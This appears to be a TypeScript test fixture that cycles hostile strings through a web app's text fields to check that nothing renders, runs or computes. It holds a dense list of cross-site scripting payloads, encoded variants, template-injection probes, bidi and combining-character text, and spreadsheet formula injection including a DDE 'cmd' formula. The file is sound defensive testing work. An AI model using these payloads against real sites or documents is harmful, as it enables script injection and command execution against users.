// What somebody may put into any field of text. Nothing of it may run, become an element, be computed, or break a page.

/** What a text that ran would call, and a host that nothing of ours asks. */
export const tripwire = 's7ran';
export const strangerHost = 's7.invalid';
/** An element of it is in a page only when a text became markup. */
export const foreignElement = '[data-s7]';
/** Templates that compute would show it. */
export const computed = String(1337 * 1337);

const call = `${tripwire}()`;
const image = `<img data-s7 src=x onerror=${call}>`;
const markup = [
  `<script data-s7>${call}</script>`,
  `</script><script data-s7>${call}</script>`,
  `<ScRiPt data-s7>${call}</sCrIpT>`,
  `<script data-s7 src=//${strangerHost}/x.js></script>`,
  image,
  `">${image}`,
  `'>${image}`,
  `-->${image}`,
  `]]>${image}`,
  `</title>${image}`,
  `</textarea>${image}`,
  `</style>${image}`,
  `<img data-s7 src=//${strangerHost}/p.png>`,
  `<svg data-s7 onload=${call}>`,
  `<svg data-s7><script>${call}</script></svg>`,
  `<svg data-s7><a xlink:href=javascript:${call}><text>x</text></a></svg>`,
  `<iframe data-s7 srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe data-s7 src=javascript:parent.${call}></iframe>`,
  `<a data-s7 href=javascript:${call}>x</a>`,
  `" onmouseover="${call}" data-s7="`,
  `' autofocus onfocus='${call}' data-s7='`,
  `<body data-s7 onload=${call}>`,
  '<style data-s7>*{display:none}</style>',
  `<style data-s7>@import '//${strangerHost}/x.css'</style>`,
  `<link data-s7 rel=stylesheet href=//${strangerHost}/x.css>`,
  `<base data-s7 href=//${strangerHost}/>`,
  `<meta data-s7 http-equiv=refresh content="0;url=//${strangerHost}/">`,
  `<form data-s7 action=//${strangerHost}/><input autofocus onfocus=${call}>`,
  `<object data-s7 data=//${strangerHost}/x></object>`,
  `<math><mtext><table><mglyph><style>${image}`,
  `<noscript><p title="</noscript>${image}">`,
  `<template data-s7>${image}</template>`,
  `<!-->${image}-->`,
  `<details data-s7 open ontoggle=${call}>`,
];
const disguised = [
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `&lt;img data-s7 src=x onerror=${call}&gt;`,
  `&#60;script data-s7&#62;${call}&#60;/script&#62;`,
  `\\u003cscript data-s7\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript data-s7%3E${call}%3C/script%3E`,
  `+ADw-script data-s7+AD4-${call}+ADw-/script+AD4-`,
  `[x](javascript:${call})`,
];
const templates = [
  '{{1337*1337}}',
  '${1337*1337}',
  '<%= 1337*1337 %>',
  '#{1337*1337}',
  `{{constructor.constructor('${call}')()}}`,
  '{count, plural, other {#}}',
  '{name} <b>{price}</b>',
  '%s %d $1 $& \\1',
];
const letters = [
  '\u202Egnp.exe',
  '\u2067אבג\u202E123',
  'ก\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49',
  'ที่ปู่ป้าน้ำปั๊มญี่ปุ่น',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034D',
  'a\u200B\u200D\uFEFFb\u2028c',
  '👩‍👩‍👧‍👦'.repeat(6),
];
const formulas = ['=1337*1337', '+1337*1337', '-1337*1337', '@SUM(1337*1337)', '=cmd|x!A1'];

/** Long ones come first where they fit: a word without an end is what breaks a line. */
export const hostileTexts = [...markup, ...disguised, ...templates, ...letters, ...formulas];
const longWords = ['W', 'กี่'].map((letter) => letter.repeat(10_000));

/** A field with so much room holds all of them at once. */
const roomForAll = 2400;

/** A text of the length that a field takes. It begins and ends with a name of its own, so that one can find it on a page. */
export class HostileTexts {
  /** Every text that was put somewhere, by its field, and the hostile ones that it is made of. */
  readonly given: { field: string; text: string; holds: readonly string[] }[] = [];
  /** Each field goes through the list by itself: one that takes few of them would drag the others to the same place in every set. */
  readonly #next = new Map<string, number>();

  constructor(private readonly first: number) {}

  for(field: string, longest: number): string {
    const name = `s7t${String(this.given.length).padStart(4, '0')}`;
    const room = longest - name.length - 1;
    const found = this.turn(field, room);
    // a formula is one only at the beginning
    const text = /^[=+\-@]/.test(found)
      ? this.filled(`${found} ${name}`, longest)
      : `${name} ${this.filled(found, room)}`;
    this.given.push({ field, text, holds: room >= roomForAll ? hostileTexts : [found] });
    return text;
  }

  /** How many of the list each field was given, over all fields. */
  get pairs(): number {
    return new Set(this.given.flatMap(({ field, holds }) => holds.map((hostile) => `${field} ${hostile}`))).size;
  }

  /** The field's next, of those that fit. */
  private turn(field: string, room: number): string {
    const next = this.#next.get(field) ?? this.first + this.#next.size;
    this.#next.set(field, next + 1);
    const fitting = hostileTexts.filter(({ length }) => length <= room);
    return fitting[next % fitting.length] ?? '<b>'.slice(0, Math.max(0, room));
  }

  /** Where there is room, a word that no line holds; where there is much of it, every other text before that. */
  private filled(text: string, room: number): string {
    const all = room >= roomForAll ? [text, ...hostileTexts].join('\n') : text;
    const word = longWords[this.given.length % longWords.length]!;
    return all.length + 40 < room && this.given.length % 3 === 0 ? `${all} ${word}`.slice(0, room) : all.slice(0, room);
  }
}

/** The name that a text was given. */
export const nameOf = (text: string): string => /s7t\d{4}/.exec(text)![0];
